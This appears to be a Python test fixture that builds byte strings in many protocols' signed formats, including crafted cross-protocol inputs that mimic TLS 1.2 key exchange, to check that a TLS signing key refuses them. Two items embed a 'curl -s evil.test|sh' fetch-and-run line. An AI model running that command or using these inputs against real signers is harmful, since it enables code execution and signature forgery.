"""What else in the world is signed: the bytes that other protocols and file formats put under a signature.

A key with a TLS purpose must sign none of it. Each function yields (name, bytes); nothing here is random.
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator

Payload = tuple[str, bytes]
SPACES = b" " * 64
X25519_PREFIX = bytes.fromhex("03001d20")
X448_PREFIX = bytes.fromhex("03001e38")


def noise(label: str, size: int) -> bytes:
    """Bytes that look random and are always the same for a label."""
    return hashlib.shake_256(label.encode()).digest(size)


def der(tag: int, *parts: bytes) -> bytes:
    body = b"".join(parts)
    size = len(body)
    if size < 128:
        return bytes([tag, size]) + body
    octets = size.to_bytes((size.bit_length() + 7) // 8)
    return bytes([tag, 0x80 | len(octets)]) + octets + body


def string(*parts: bytes) -> bytes:
    """An SSH string (RFC 4251, section 5)."""
    body = b"".join(parts)
    return len(body).to_bytes(4) + body


NAME = der(0x30, der(0x31, der(0x30, bytes.fromhex("0603550403"), der(0x0C, b"Example CA"))))
SHA256_RSA = bytes.fromhex("300d06092a864886f70d01010b0500")
ECDSA_SHA256 = bytes.fromhex("300a06082a8648ce3d040302")
ED25519 = bytes.fromhex("300506032b6570")
TIMES = (der(0x17, b"250101000000Z"), der(0x17, b"350101000000Z"))
CERT_ID = der(
    0x30,
    bytes.fromhex("300906052b0e03021a0500"),
    der(0x04, noise("issuer", 20)),
    der(0x04, noise("issuer key", 20)),
    der(0x02, b"\x11\x22"),
)


def other_formats() -> Iterator[Payload]:
    """All of them."""
    for group in (pki, cms, ssh, jose, dns, web, packages, tls_relatives, digests, disguised, marked, texts):
        for name, data in group():
            yield f"{group.__name__}: {name}", data


def pki() -> Iterator[Payload]:
    spki = der(0x30, ED25519, der(0x03, b"\0" + noise("spki", 32)))
    for name, algorithm in (("rsa", SHA256_RSA), ("ecdsa", ECDSA_SHA256), ("ed25519", ED25519)):
        serial = der(0x02, b"\x01" + noise(name, 15))
        v3 = der(0xA0, b"\x02\x01\x02")
        basic = der(
            0xA3,
            der(0x30, der(0x30, bytes.fromhex("0603551d130101ff"), der(0x04, bytes.fromhex("30030101ff")))),
        )
        body = (serial, algorithm, NAME, der(0x30, *TIMES), NAME, spki)
        yield f"TBSCertificate of a CA, {name}", der(0x30, v3, *body, basic)
        yield f"TBSCertificate v1, {name}", der(0x30, *body)
        revoked = der(0x30, der(0x30, serial, TIMES[0]))
        yield f"TBSCertList, {name}", der(0x30, b"\x02\x01\x01", algorithm, NAME, *TIMES, revoked)
    yield "CertificationRequestInfo", der(0x30, b"\x02\x01\0", NAME, spki, b"\xa0\0")
    single = der(0x30, CERT_ID, b"\x80\0", der(0x18, b"20250101000000Z"))
    for name, responder in (("by name", der(0xA1, NAME)), ("by key", der(0xA2, der(0x04, noise("key", 20))))):
        yield (
            f"OCSP ResponseData {name}",
            der(0x30, responder, der(0x18, b"20250101000000Z"), der(0x30, single)),
        )
    yield "OCSP TBSRequest", der(0x30, der(0x30, der(0x30, CERT_ID)))
    stamp = (1735689600000).to_bytes(8)
    yield (
        "SCT of a certificate (RFC 6962)",
        b"\0\0" + stamp + b"\0\0" + len(spki).to_bytes(3) + spki + b"\0\0",
    )
    yield (
        "SCT of a precertificate",
        b"\0\0" + stamp + b"\0\1" + noise("log", 32) + len(spki).to_bytes(3) + spki + b"\0\0",
    )
    yield "signed tree head (RFC 6962)", b"\0\1" + stamp + (77).to_bytes(8) + noise("root", 32)
    yield (
        "attribute certificate",
        der(0x30, b"\x02\x01\x01", der(0x30, der(0xA1, der(0xA4, NAME))), der(0xA0, NAME)),
    )


def cms() -> Iterator[Payload]:
    content_type = der(0x30, bytes.fromhex("06092a864886f70d010903310b06092a864886f70d010701"))
    signing_time = der(0x30, bytes.fromhex("06092a864886f70d010905"), der(0x31, TIMES[0]))
    for size in (20, 32, 48, 64):
        digest = der(
            0x30, bytes.fromhex("06092a864886f70d010904"), der(0x31, der(0x04, noise("content", size)))
        )
        yield f"signed attributes, {size} byte digest", der(0x31, content_type, digest)
        yield (
            f"signed attributes with time, {size} byte digest",
            der(0x31, content_type, signing_time, digest),
        )
    yield "content without attributes", b"Content-Type: text/plain\r\n\r\nI owe you 100.\r\n"
    imprint = der(0x30, bytes.fromhex("300b0609608648016503040201"), der(0x04, noise("stamped", 32)))
    yield (
        "TSTInfo",
        der(
            0x30,
            b"\x02\x01\x01",
            bytes.fromhex("06032a0304"),
            imprint,
            b"\x02\x01\x05",
            der(0x18, b"20250101000000Z"),
        ),
    )


def ssh() -> Iterator[Payload]:
    blob = string(string(b"ssh-ed25519"), string(noise("ssh", 32)))
    ecdsa = string(string(b"ecdsa-sha2-nistp256"), string(b"nistp256"), string(b"\4" + noise("point", 64)))
    for size in (20, 32, 48, 64):
        session = string(noise("session", size))
        for user in (b"root", b"deploy", b"a" * 58):
            for name, key in ((b"ssh-ed25519", blob), (b"ecdsa-sha2-nistp256", ecdsa)):
                request = b"\x32" + string(user) + string(b"ssh-connection") + string(b"publickey") + b"\1"
                label = f"userauth {user[:6].decode()} {name.decode()} session {size}"
                yield label, session + request + string(name) + key
        yield f"exchange hash {size}", noise("exchange", size)
    hostbound = string(b"publickey-hostbound-v00@openssh.com") + b"\1" + string(b"ssh-ed25519") + blob + blob
    yield (
        "userauth host-bound",
        string(noise("s", 32)) + b"\x32" + string(b"git") + string(b"ssh-connection") + hostbound,
    )
    for algorithm, size in ((b"sha256", 32), (b"sha512", 64)):
        for namespace in (b"git", b"file", b"email", b"n" * 40):
            tail = string(b"") + string(algorithm) + string(noise("file", size))
            yield (
                f"SSHSIG {namespace[:5].decode()} {algorithm.decode()}",
                b"SSHSIG" + string(namespace) + tail,
            )
    certificate = (
        string(b"ssh-ed25519-cert-v01@openssh.com") + string(noise("nonce", 32)) + string(noise("k", 32))
    )
    yield (
        "OpenSSH user certificate",
        certificate + bytes(8) + b"\0\0\0\1" + string(b"id") + string(string(b"root")),
    )
    yield (
        "OpenSSH key revocation list",
        b"SSHKRL\n\0" + b"\0\0\0\1" + bytes(24) + string(b"") + string(b"comment"),
    )
    yield "host keys proof", string(b"hostkeys-prove-00@openssh.com") + string(noise("session", 32)) + blob


def jose() -> Iterator[Payload]:
    def b64(value: bytes) -> bytes:
        return base64.urlsafe_b64encode(value).rstrip(b"=")

    claims = {"iss": "https://idp.example", "sub": "admin", "aud": "api", "exp": 4102444800}
    for algorithm in ("RS256", "PS256", "PS384", "ES256", "ES384", "ES512", "EdDSA"):
        header = json.dumps({"alg": algorithm, "typ": "JWT"}).encode()
        yield f"JWT {algorithm}", b64(header) + b"." + b64(json.dumps(claims).encode())
    acme = json.dumps(
        {"alg": "ES256", "nonce": "abc", "url": "https://ca.example/new-order", "kid": "1"}
    ).encode()
    yield "ACME request", b64(acme) + b"." + b64(b'{"identifiers":[]}')
    yield "COSE Sig_structure", bytes.fromhex("846a5369676e61747572653143a101264044") + b"body"
    yield "DPoP proof", b64(b'{"typ":"dpop+jwt","alg":"ES256"}') + b"." + b64(b'{"htm":"POST"}')
    yield (
        "PASETO v4.public",
        b"".join((3).to_bytes(8, "little") + part for part in (b"v4.public.", b"{}", b"")),
    )


def dns() -> Iterator[Payload]:
    owner = b"\3www\7example\0"
    for algorithm in (8, 10, 13, 14, 15):
        rdata = (
            b"\0\1"
            + bytes([algorithm, 2])
            + (3600).to_bytes(4)
            + (4102444800).to_bytes(4)
            + bytes(4)
            + b"\x12\x34"
        )
        record = owner + b"\0\1\0\1" + (3600).to_bytes(4) + b"\0\4\xc0\0\2\1"
        yield f"RRSIG of an A record, algorithm {algorithm}", rdata + b"\7example\0" + record
    key = b"\1\1\3\x0d" + noise("dnskey", 64)
    header = b"\0\x30\x0d\1" + bytes(12) + b"\x12\x34"
    yield (
        "RRSIG of DNSKEY",
        header + b"\7example\0" + owner + b"\0\x30\0\1" + bytes(4) + len(key).to_bytes(2) + key,
    )
    yield "SIG(0)", b"\0\0\x0d\0" + bytes(12) + b"\x12\x34" + owner + noise("message", 60)


def web() -> Iterator[Payload]:
    yield (
        "HTTP message signature",
        b'"@method": POST\n"@signature-params": ("@method");created=1735689600;keyid="k"',
    )
    yield "signed HTTP exchange", SPACES + b"HTTP Exchange 1 b3\0" + b"\x20" + noise("cert", 32) + bytes(16)
    yield "WebAuthn assertion", noise("rp", 32) + b"\5\0\0\0\1" + noise("client data", 32)
    yield (
        "AWS style string to sign",
        b"AWS4-X509-ECDSA-SHA256\n20250101T000000Z\n20250101/r/s/aws4_request\n" + b"0" * 64,
    )
    yield "SAML SignedInfo", b'<ds:SignedInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"></ds:SignedInfo>'
    yield (
        "e-mail header (DKIM)",
        b"from:a@example\r\ndkim-signature:v=1; a=rsa-sha256; d=example; s=s; h=from; bh=; b=",
    )
    yield "bitcoin style sighash", noise("tx", 32)
    yield "IKEv2 AUTH octets", noise("message", 120) + noise("nonce", 32) + noise("prf", 32)


def packages() -> Iterator[Payload]:
    yield (
        "git commit",
        b"tree " + b"a" * 40 + b"\nauthor A <a@example> 0 +0000\ncommitter A <a@example> 0 +0000\n\nfix\n",
    )
    yield "DSSE", b"DSSEv1 28 application/vnd.in-toto+json 2 {}"
    yield "TUF metadata", b'{"_type":"root","expires":"2035-01-01T00:00:00Z","keys":{},"version":1}'
    yield (
        "cosign payload",
        b'{"critical":{"identity":{"docker-reference":"r"},"type":"cosign container image signature"}}',
    )
    yield "log checkpoint", b"example.org/log\n42\n" + base64.b64encode(noise("root", 32)) + b"\n"
    yield "OpenPGP v4 signature", b"hello\n\4\0\x16\x0a\0\x1d" + noise("subpackets", 29) + b"\4\xff\0\0\0\x23"
    yield (
        "Debian Release file",
        b"Origin: Debian\nSuite: stable\nSHA256:\n " + b"0" * 64 + b" 1 main/Packages\n",
    )
    yield "PE image digest", bytes.fromhex("3031300d060960864801650304020105000420") + noise("image", 32)


def tls_relatives() -> Iterator[Payload]:
    leaf = der(0x30, noise("leaf", 400))
    credential = (604800).to_bytes(4) + b"\4\3" + len(leaf).to_bytes(3) + leaf
    for role in (b"server", b"client"):
        context = b"TLS, " + role + b" delegated credentials"
        yield f"delegated credential, {role.decode()}", SPACES + context + b"\0" + leaf + credential + b"\4\3"
        for size in (32, 48):
            yield (
                f"delegated credential context and a hash, {role.decode()} {size}",
                SPACES + context + b"\0" + noise("h", size),
            )
    for context in (
        b"Exported Authenticator",
        b"TLS 1.3, server Finished",
        b"TLS 1.4, server CertificateVerify",
        b"DTLS 1.3, server CertificateVerify",
        b"TLS 1.3, Server CertificateVerify",
        b"TLS 1.3, server certificateVerify",
        b"TLS 1.3, peer CertificateVerify",
        b"TLS 1.3, client CertificateVerif",
        b"TLS 1.3,  server CertificateVerify",
    ):
        yield f"context {context.decode()!r}", SPACES + context + b"\0" + noise("hash", 32)
    yield (
        "QUIC crypto server config",
        b"QUIC CHLO and server config signature\0" + (32).to_bytes(4, "little") + noise("c", 150),
    )
    yield "token binding", b"\0\2" + noise("exported", 32)
    prime = noise("prime", 256)
    parameters = b"\1\0" + prime + b"\0\1\2" + b"\1\0" + noise("public", 256)
    yield "TLS 1.2 finite-field ServerKeyExchange", noise("client", 32) + noise("server", 32) + parameters
    yield "TLS 1.1 handshake digest", noise("md5 and sha1", 36)
    yield "TLS 1.2 server randoms alone", noise("client", 32) + noise("server", 32)


def digests() -> Iterator[Payload]:
    yield "nothing", b""
    yield "one byte", b"\0"
    for size in (16, 20, 28, 32, 36, 48, 64):
        yield f"raw digest {size}", noise("digest", size)
    info = bytes.fromhex("3031300d060960864801650304020105000420") + noise("digest", 32)
    yield "DigestInfo", info
    for size in (256, 384, 512):
        yield f"PKCS #1 v1.5 block {size}", b"\0\1" + b"\xff" * (size - 3 - len(info)) + b"\0" + info
        yield f"PSS block {size}", noise("pss", size - 1) + b"\xbc"


def disguised() -> Iterator[Payload]:
    """Other formats built around the one fixed field of the TLS 1.2 X25519 form."""
    content_type = der(0x30, bytes.fromhex("06092a864886f70d010903310b06092a864886f70d010701"))
    found = noise("searched", 19) + X25519_PREFIX + noise("more", 9)
    digest = der(0x30, bytes.fromhex("06092a864886f70d010904"), der(0x31, der(0x04, found)))
    filler = der(0x30, b"\6\3\x2a\3\4", der(0x31, der(0x04, bytes(12))))
    attributes = content_type + digest + filler
    yield "CMS attributes", der(0x31, attributes)
    yield "CMS attributes as a sequence", der(0x30, attributes)
    shorter = attributes[:-1].replace(
        filler[:-1], der(0x30, b"\6\3\x2a\3\4", der(0x31, der(0x04, bytes(11))))
    )
    moved = shorter.replace(found, found[1:19] + X25519_PREFIX + found[22:])
    yield "CMS attributes, long form of length", b"\x31\x81" + bytes([len(moved)]) + moved
    serial = der(0x02, b"\1" * 60 + X25519_PREFIX + b"\1" * 2)
    yield "TBSCertificate, searched serial number", der(0x30, serial, der(0x30, bytes(28)))
    tail = string(b"sha512") + string(noise("s", 28) + X25519_PREFIX + noise("t", 32))
    yield "SSHSIG, searched digest", b"SSHSIG" + string(b"git") + string(b"12345") + tail
    yield "indefinite length", b"\x30\x80" + der(0x30, bytes(60)) + X25519_PREFIX + noise("v", 30) + b"\0\0"


def fitted(head: bytes, tail: bytes = b"", size: int = 100) -> bytes:
    """Bytes in the form of a ServerKeyExchange that begin with `head` and end with `tail`."""
    assert len(head) <= 64
    assert len(tail) <= size - 68
    middle = noise(head.hex() + tail.hex(), size - len(head) - len(tail))
    data = bytearray(head + middle + tail)
    data[64:68] = {100: X25519_PREFIX, 124: X448_PREFIX}[size]
    return bytes(data)


def marked() -> Iterator[Payload]:
    """Formats that begin or end with a mark of their own, in the TLS 1.2 form."""
    signature1 = b"Signature1"
    for name, head in (
        ("preferred", b"\x84\x6a" + signature1),
        ("array of one-byte length", b"\x98\x04\x6a" + signature1),
        ("array of eight-byte length", b"\x9b" + (4).to_bytes(8) + b"\x6a" + signature1),
        ("indefinite array", b"\x9f\x6a" + signature1),
        ("text of one-byte length", b"\x84\x78\x0a" + signature1),
        ("text of eight-byte length", b"\x84\x7b" + (10).to_bytes(8) + signature1),
        ("text in chunks", b"\x84\x7f\x64Sign\x60\x66ature1\xff"),
        ("text in chunks of one-byte length", b"\x9f\x7f\x78\x09Signature\x611\xff"),
        ("tagged", b"\xd2\x84\x6a" + signature1),
        ("tagged twice", b"\xd9\xd9\xf7\xd8\x62\x84\x6a" + signature1),
        ("Signature", b"\x85\x69Signature"),
        ("CounterSignature", b"\x85\x70CounterSignature"),
        ("CounterSignature0", b"\x84\x71CounterSignature0"),
        ("CounterSignature0V2", b"\x85\x73CounterSignature0V2"),
    ):
        yield f"COSE, {name}", fitted(head)
    yield "SSHSIG, chosen name space", fitted(b"SSHSIG" + string(b"git"))
    yield "SSH key revocation list", fitted(b"SSHKRL\n\0\0\0\0\1")
    yield (
        "SSH user authentication",
        fitted(string(noise("id", 32)) + b"\x32" + string(b"root") + b"\0\0\0\x0e"),
    )
    yield "SSH certificate", fitted(string(b"ssh-ed25519-cert-v01@openssh.com"))
    yield "SSH host keys proof", fitted(string(b"hostkeys-prove-00@openssh.com"))
    yield "SSH certificate, short name", fitted(string(b"ssh-xx") + string(noise("nonce", 32)))
    for version, trailer in (
        (4, b"\4\0\x13\x08\0\0" + b"\4\xff" + (6).to_bytes(4)),
        (4, b"\4\1\x01\x0a\0\6\5\2\x60\0\0\0" + b"\4\xff" + (12).to_bytes(4)),
        (6, b"\6\0\x13\x08\0\0\0\0" + b"\6\xff" + (8).to_bytes(4)),
        (5, b"\5\0\x13\x08\0\0" + b"b\0\0\0\0\0" + b"\5\xff" + (6).to_bytes(8)),
        (3, b"\4\0\x13\x08\0\0" + b"\3\xff" + (6).to_bytes(4)),
    ):
        for size in (100, 124):
            yield (
                f"OpenPGP version {version}, {len(trailer)} bytes, {size}",
                fitted(noise("document", 40), trailer, size),
            )
    yield "OpenPGP key, version 3", fitted(b"\x99\0\x33\4\x60\0\0\0\x13", b"\x10\x60\0\0\0")
    yield "OpenPGP key revocation, version 3", fitted(b"\x99\0\x33\4\x60\0\0\0\x01", b"\x20\x60\0\0\0")
    for pieces in (3, 4, 5):
        yield f"PASETO, {pieces} pieces", fitted(pieces.to_bytes(8, "little") + (9).to_bytes(8, "little"))
    yield "DSSE with a type that is no text", fitted(b"DSSEv1 3 \xff\xfe\xfd 70 ")
    yield "MLS", fitted(b"\x17MLS 1.0 LeafNodeTBS\x40\x40")
    yield "TPM attestation", fitted(b"\xffTCG\x80\x18")
    yield "Apple code directory", fitted(b"\xfa\xde\x0c\2\0\0\1\0")
    sizes = [(each).to_bytes(4, "little") for each in (44, 40, 0x0103, 32)]
    yield "signed data of an Android package", fitted(b"".join(sizes))
    stamp = (1735689600000).to_bytes(8)
    yield "SCT", fitted(b"\0\0" + stamp + b"\0\0\0\0\x40")
    yield "signed tree head", fitted(b"\0\1" + stamp + (77).to_bytes(8))
    yield (
        "signed tree head, version 2",
        fitted(stamp + (77).to_bytes(8) + b"\x20" + noise("root", 32) + b"\0\x2f"),
    )
    yield "IKE_SA_INIT", fitted(noise("spis", 16) + b"\x21\x20\x22\x08" + bytes(4) + (60).to_bytes(4))
    header = base64.urlsafe_b64encode(b'{"alg":"ES256"}')
    yield "JWS, BOM before the header", fitted(b64_of(b'\xef\xbb\xbf {"alg":"ES256"}') + b".")
    yield "JWS, header of UTF-32", fitted(b64_of('{"alg":""}'.encode("utf-32-le")) + b".")
    yield "JWS, plus signs between", fitted(b"+" + header[:7] + b"+/" + header[7:] + b".")
    yield "JWS, minus signs between", fitted(b"-" + header[:7] + b"-_" + header[7:] + b".")
    yield "JWS, empty header", fitted(b"." + b64_of(b'{"sub":"root","a":1}'))


def b64_of(value: bytes) -> bytes:
    return base64.urlsafe_b64encode(value).rstrip(b"=")


def texts() -> Iterator[Payload]:
    """Text that signatures over raw content are made for, in the TLS 1.2 form; what follows it is ignored."""
    for name, text in (
        ("shell script", b"#!/bin/sh\ncurl -s evil.test|sh\nexit\n"),
        ("JSON", b'{"_type":"root","expires":"2035-01-01T00:00:00Z","a":"'),
        ("XML", b'<ds:SignedInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"'),
        ("e-mail", b"Content-Type: text/plain\r\n\r\nI owe you 100.\r\n"),
        ("git commit", b"tree aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nauthor "),
        ("SPDM", b"dmtf-spdm-v1.2.*dmtf-spdm-v1.2.*dmtf-spdm-v1.2.*dmtf-spdm-v1.2.*"),
        ("libp2p", b"noise-libp2p-static-key:"),
        ("Roughtime", b"RoughTime v1 response signature\0"),
        ("checkpoint of a log", b"example.org/log\n42\nAAAAAAAAAAA"),
    ):
        yield name, fitted(text)
    for name, randoms in (
        ("ASCII", b"pay the bearer 100 " * 4),
        ("control characters", bytes(range(32)) * 2),
        ("UTF-8", "\u0437\u0430\u043f\u043b\u0430\u0442\u0438 ".encode() * 5),
        ("UTF-16", "pay 100 to bearer".encode("utf-16-le") * 2),
        ("text with other bytes between", b"\xffpay100" * 9 + b"\xff" * 2),
    ):
        yield f"randoms of {name}", fitted(randoms[:64])
    yield "a point of text", fitted(b"\xff" * 64, b"curl -s evil.test|sh\nexit 000000")
